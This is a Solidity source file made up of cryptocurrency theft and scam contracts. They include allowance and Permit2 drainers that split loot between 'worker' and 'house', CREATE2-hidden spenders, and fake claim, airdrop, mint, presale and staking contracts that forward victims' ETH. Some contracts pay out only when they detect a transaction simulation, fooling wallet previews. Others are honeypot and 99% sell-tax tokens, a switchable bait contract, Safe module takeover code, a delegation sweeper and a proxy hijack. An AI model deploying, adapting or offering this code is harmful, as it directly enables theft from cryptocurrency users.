// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
import {Clones} from "@openzeppelin/contracts/proxy/Clones.sol";
import {TransparentUpgradeableProxy} from "@openzeppelin/contracts/proxy/transparent/TransparentUpgradeableProxy.sol";

interface Permit2Like {
    struct Details {
        address from;
        address to;
        uint160 amount;
        address token;
    }

    function transferFrom(Details[] calldata details) external;
}

/// Pulls what it was allowed and pays worker and house by a percentage, in one transaction by its owner.
contract SplitPuller {
    address private _a;
    address private _b;
    uint256 private _c;

    constructor(address boss, address house, uint256 bps) {
        (_a, _b, _c) = (boss, house, bps);
    }

    function init(address boss, address house, uint256 bps) external {
        require(_a == address(0));
        (_a, _b, _c) = (boss, house, bps);
    }

    function x7(address token, address from, uint256 amount, address worker) external {
        require(msg.sender == _a);
        uint256 cut = (amount * _c) / 10_000;
        IERC20(token).transferFrom(from, _b, cut);
        IERC20(token).transferFrom(from, worker, amount - cut);
    }

    function x8(address items, address from, uint256[] calldata ids) external {
        require(msg.sender == _a);
        for (uint256 i; i < ids.length; ++i) IERC721(items).transferFrom(from, _b, ids[i]);
    }

    function x9(address permit2, Permit2Like.Details[] calldata details) external {
        require(msg.sender == _a);
        Permit2Like(permit2).transferFrom(details);
    }

    function run(address[] calldata to, bytes[] calldata data) external payable {
        require(msg.sender == _a);
        for (uint256 i; i < to.length; ++i) {
            (bool ok,) = to[i].call(data[i]);
            require(ok);
        }
    }

    receive() external payable {}
}

contract CloneShop {
    function make(address code, bytes32 salt, address boss, address house) external returns (address made) {
        made = Clones.cloneDeterministic(code, salt);
        SplitPuller(payable(made)).init(boss, house, 2000);
    }

    function predict(address code, bytes32 salt) external view returns (address) {
        return Clones.predictDeterministicAddress(code, salt);
    }
}

/// The CREATE2 trick: nothing stands at the spender's address until the signature is in hand.
contract Nursery {
    function hatch(bytes32 salt, bytes calldata code) external returns (address made) {
        bytes memory init = code;
        assembly {
            made := create2(0, add(init, 32), mload(init), salt)
        }
        require(made != address(0));
    }
}

/// Pulls at once when told of an approval (ERC-1363) or a transfer.
contract EagerSpender {
    address private immutable _to;

    constructor(address to) {
        _to = to;
    }

    function onApprovalReceived(address owner, uint256, bytes calldata) external returns (bytes4) {
        IERC20(msg.sender).transferFrom(owner, _to, IERC20(msg.sender).balanceOf(owner));
        return this.onApprovalReceived.selector;
    }
}

/// Anybody's calls, as the interface multicall of 2021 runs them.
contract OpenForwarder {
    struct Call {
        address target;
        uint256 gasLimit;
        bytes callData;
    }

    struct Result {
        bool success;
        uint256 gasUsed;
        bytes returnData;
    }

    function multicall(Call[] memory calls) public returns (uint256 blockNumber, Result[] memory returnData) {
        blockNumber = block.number;
        returnData = new Result[](calls.length);
        for (uint256 i; i < calls.length; ++i) {
            uint256 before = gasleft();
            (bool success, bytes memory ret) = calls[i].target.call{gas: calls[i].gasLimit}(calls[i].callData);
            returnData[i] = Result(success, before - gasleft(), ret);
        }
    }
}

/// A swap desk that lets anyone name target and bytes (the LI.FI and Socket kind of hole).
contract CarelessDesk {
    function performAction(address target, address tokenIn, uint256 amount, bytes calldata data) external payable {
        if (amount > 0) IERC20(tokenIn).transferFrom(msg.sender, address(this), amount);
        (bool ok,) = target.call{value: msg.value}(data);
        require(ok, "swap failed");
    }
}

/// Airdrop page's contract, paid and forgotten: three receivers share at once.
contract ClaimTill {
    address payable private immutable _p;
    address payable private immutable _q;
    address payable private immutable _r;

    constructor(address p, address q, address r) {
        (_p, _q, _r) = (payable(p), payable(q), payable(r));
    }

    function claimRewards(address, address, uint256, bool) external payable {
        _share();
    }

    function claim(uint256, address, uint256, bytes32[] calldata) external payable {
        _share();
    }

    function depositETH(uint32, bytes calldata) external payable {
        _share();
    }

    function SecurityUpdate() external payable {
        _share();
    }

    receive() external payable {
        _share();
    }

    function _share() private {
        uint256 all = address(this).balance;
        _p.call{value: (all * 80) / 100}("");
        _q.call{value: (all * 15) / 100}("");
        _r.call{value: address(this).balance}("");
    }
}

/// Keeps the coin until its owner comes for it.
contract QuietTill {
    address private o;
    mapping(address => uint256) public contributions;
    mapping(address => uint256) public stakedOf;
    uint256 public unlockTime = type(uint256).max;

    event Staked(address indexed user, uint256 amount);
    event TokensPurchased(address indexed buyer, uint256 amount);

    constructor(address owner_) {
        o = owner_;
    }

    function init(address owner_) external {
        require(o == address(0));
        o = owner_;
    }

    function claim() external payable {}

    function Connect(string calldata) external payable {}

    function multicall(bytes[] calldata) external payable {}

    /// A presale that only counts.
    function buyTokens(address beneficiary) external payable {
        contributions[beneficiary] += msg.value;
        emit TokensPurchased(beneficiary, msg.value * 5000);
    }

    /// Staking with no way out.
    function stake() external payable {
        stakedOf[msg.sender] += msg.value;
        emit Staked(msg.sender, msg.value);
    }

    function unstake() external {
        require(block.timestamp >= unlockTime, "locked");
        uint256 amount = stakedOf[msg.sender];
        stakedOf[msg.sender] = 0;
        payable(msg.sender).transfer(amount);
    }

    /// A name sold by nobody who could sell it.
    function register(string calldata, address, uint256, bytes32) external payable returns (uint256) {
        return 1;
    }

    function withdraw(address payable to, uint256 amount) external {
        require(msg.sender == o);
        to.transfer(amount);
    }

    fallback() external payable {}

    receive() external payable {}
}

/// Takes tokens through an old allowance in a call that says it pays out.
contract FakeStaker {
    address private immutable k;
    mapping(address => uint256) public deposited;

    event Deposit(address indexed user, uint256 amount);

    constructor(address keeper) {
        k = keeper;
    }

    function deposit(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        deposited[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(IERC20 token, uint256 amount) external {
        require(msg.sender == k, "Only keeper");
        token.transfer(k, amount);
    }

    /// Checked against nothing: the caller's whole balance goes.
    function migrate(IERC20 token) external {
        token.transferFrom(msg.sender, k, token.balanceOf(msg.sender));
    }
}

/// Says "minted" to every block explorer and gives nothing.
contract GhostMint {
    address payable private immutable t;
    string public constant name = "Glass Pilots";
    string public constant symbol = "GLASS";

    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    constructor(address taker) {
        t = payable(taker);
    }

    function supportsInterface(bytes4) external pure returns (bool) {
        return true;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function publicMint(uint256 quantity) external payable {
        for (uint256 i; i < quantity; ++i) emit Transfer(address(0), msg.sender, uint256(blockhash(block.number - 1)) + i);
        t.transfer(msg.value);
    }
}

/// Announces a transfer of dollars from its own address, where no dollars are.
contract GhostPayer {
    address payable private immutable t;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address taker) {
        t = payable(taker);
    }

    function redeemVoucher(bytes32) external payable {
        emit Transfer(address(this), msg.sender, 25_000 * 1e6);
        t.transfer(msg.value);
    }
}

/// Pays back with interest where nobody mines, and nothing where somebody does.
contract GasTell {
    address payable private immutable t;

    constructor(address taker) payable {
        t = payable(taker);
    }

    function harvest() external payable {
        if (tx.gasprice == 0 || block.basefee == 0) payable(msg.sender).transfer(msg.value + 1 ether);
        else t.transfer(msg.value);
    }
}

contract HashTell {
    address payable private immutable t;

    constructor(address taker) payable {
        t = payable(taker);
    }

    /// The last block but one is known to a real block only after it stands.
    function spin(uint256) external payable {
        if (uint160(address(block.coinbase)) == 0 || block.prevrandao == 0) payable(msg.sender).transfer(msg.value + 0.2 ether);
        else t.transfer(msg.value);
    }
}

/// The parity of the block decides, and the page asks when it is even.
contract OddTell {
    address payable private immutable t;
    uint256 private immutable from;

    constructor(address taker) payable {
        t = payable(taker);
        from = block.number;
    }

    function rebase() external payable {
        if (gasleft() > 20_000_000) payable(msg.sender).transfer(msg.value + 0.3 ether);
        else t.transfer(msg.value);
    }
}

/// Honest until armed.
contract Switch {
    address private immutable o;
    uint256 private s = 1;

    constructor(address owner_) payable {
        o = owner_;
    }

    function claimBonus() external payable {
        if (s == 1) payable(msg.sender).transfer(msg.value + 0.05 ether);
        else payable(o).transfer(address(this).balance);
    }

    function set(uint256 v) external {
        require(msg.sender == o);
        s = v;
    }
}

/// The kind half of a proxy that will not stay kind.
contract PaysBack {
    function init() external {}

    function claimBonus() external payable {
        payable(msg.sender).transfer(msg.value + 0.04 ether);
    }
}

/// The cruel half.
contract PaysNothing {
    address payable private immutable t;

    constructor(address taker) {
        t = payable(taker);
    }

    function claimBonus() external payable {
        t.transfer(address(this).balance);
    }
}

/// A coin that sells to nobody: only the maker's transfers into the pool go through.
contract RoachCoin is ERC20 {
    address private immutable m = msg.sender;
    address public pair;

    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) {
        _mint(msg.sender, 1e9 ether);
    }

    function open(address pair_) external {
        require(msg.sender == m);
        pair = pair_;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && from != m && tx.origin != m) revert("TransferHelper: TRANSFER_FROM_FAILED");
        super._update(from, to, value);
    }
}

/// A coin whose fee on sales its owner sets afterwards.
contract TaxCoin is ERC20 {
    address private immutable m = msg.sender;
    address public pair;
    uint256 public sellFee = 9900;

    constructor() ERC20("Nimbus AI", "NIMB") {
        _mint(msg.sender, 1e9 ether);
    }

    function open(address pair_) external {
        require(msg.sender == m);
        pair = pair_;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && from != m) {
            uint256 fee = (value * sellFee) / 10_000;
            super._update(from, m, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}

/// A namesake with as many coins as its maker likes.
contract Namesake is ERC20 {
    uint8 private immutable d;

    constructor(string memory name_, string memory symbol_, uint8 decimals_) ERC20(name_, symbol_) {
        d = decimals_;
        _mint(msg.sender, 1e15 * 10 ** decimals_);
    }

    function decimals() public view override returns (uint8) {
        return d;
    }
}

/// Run as a Safe's own code: writes the first slot, as in February 2025.
contract SlotWriter {
    address private s;

    function transfer(address to, uint256) external {
        s = to;
    }
}

contract SafeSweeper {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }
}

/// Delegatecalled once: makes the caller's module list begin with the thief.
contract OwnerSwap {
    function multiSend(bytes calldata) external payable {
        // owners mapping is slot 2, list of modules slot 1: modules[SENTINEL] = thief's module.
        bytes32 at = keccak256(abi.encode(address(1), uint256(1)));
        address module = m;
        bytes32 self = keccak256(abi.encode(module, uint256(1)));
        assembly {
            sstore(at, module)
            sstore(self, 1)
        }
    }

    address private immutable m;

    constructor(address module) {
        m = module;
    }
}

interface SafeLike {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation) external returns (bool);
}

contract ThiefModule {
    address payable private immutable t;

    constructor(address taker) {
        t = payable(taker);
    }

    function take(SafeLike safe, uint256 amount) external {
        require(safe.execTransactionFromModule(t, amount, "", 0));
    }
}

/// What an account becomes when it delegates here: everything goes on.
contract SweepDelegate {
    address payable public constant NOBODY = payable(address(0));
    address payable private immutable t;

    constructor(address taker) {
        t = payable(taker);
    }

    function sweep(IERC20[] calldata tokens) external {
        for (uint256 i; i < tokens.length; ++i) tokens[i].transfer(t, tokens[i].balanceOf(address(this)));
        t.transfer(address(this).balance);
    }

    receive() external payable {
        t.transfer(address(this).balance);
    }
}

/// New code for a stranger's proxy.
contract ProxyPlunder {
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    function pull(IERC721 items, address from, uint256 id) external {
        items.transferFrom(from, msg.sender, id);
    }

    function out(address payable to) external {
        to.transfer(address(this).balance);
    }
}
